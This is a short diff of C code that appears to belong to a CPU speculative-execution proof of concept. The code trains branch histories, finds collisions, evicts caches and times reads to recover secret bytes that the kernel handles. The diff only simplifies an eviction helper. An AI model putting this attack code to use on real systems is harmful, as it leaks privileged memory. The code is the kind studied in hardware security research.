@@ -24,9 +24,6 @@ static const uint8_t *array;
 static int memory;
 static uint64_t trained[HISTORIES], trained_history, history;
 
-/* How far away the address of the program to call is to be. */
-static long pages_to_evict;
-
 /*
  * The kernel calls the program for names. There is one copy of this function, because its own
  * branches are in the histories, too.
@@ -84,20 +81,6 @@ static int reads_known_byte(void)
 	return 2 * right > CHECKS;
 }
 
-/*
- * The address of the program to call is to come from memory, not the last cache: the processor has not
- * seen the branches of the program for names under the history of the other call, and what it predicts
- * for them is wrong now and then, which costs time.
- */
-static void take_more_time(void)
-{
-	static long far_pages;
-
-	if (!far_pages)
-		far_pages = prepare_far_eviction();
-	pages_to_evict = far_pages;
-}
-
 /* Finds two histories that collide. */
 static int find_collision(void)
 {
@@ -124,8 +107,13 @@ static int find_collision(void)
 		call_with_name(trained_history);
 		if (call_with_result(history, options.known) != KNOWN_BYTE)
 			continue;
+		/*
+		 * The processor has not seen the branches of the program for names under the history of the
+		 * other call. What it predicts for them is wrong now and then, which costs time: the address
+		 * of the program to call has to come from memory then, not from the last cache.
+		 */
 		if (!reads_known_byte())
-			take_more_time();
+			prepare_far_eviction();
 		return 1;
 	}
 	return 0;
@@ -134,7 +122,7 @@ static int find_collision(void)
 static int sample(int index)
 {
 	if (tried_before)
-		take_more_time();
+		prepare_far_eviction();
 	use_secret(index);
 	return read_byte(options.address + index);
 }
@@ -151,7 +139,6 @@ int main(int argc, char **argv)
 		err(1, "/proc/self/mem");
 	calibrate();
 	prepare_eviction();
-	pages_to_evict = second_level_pages;
 	for (int i = 0; i < ROUNDS && !find_collision(); i++)
 		;
 	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
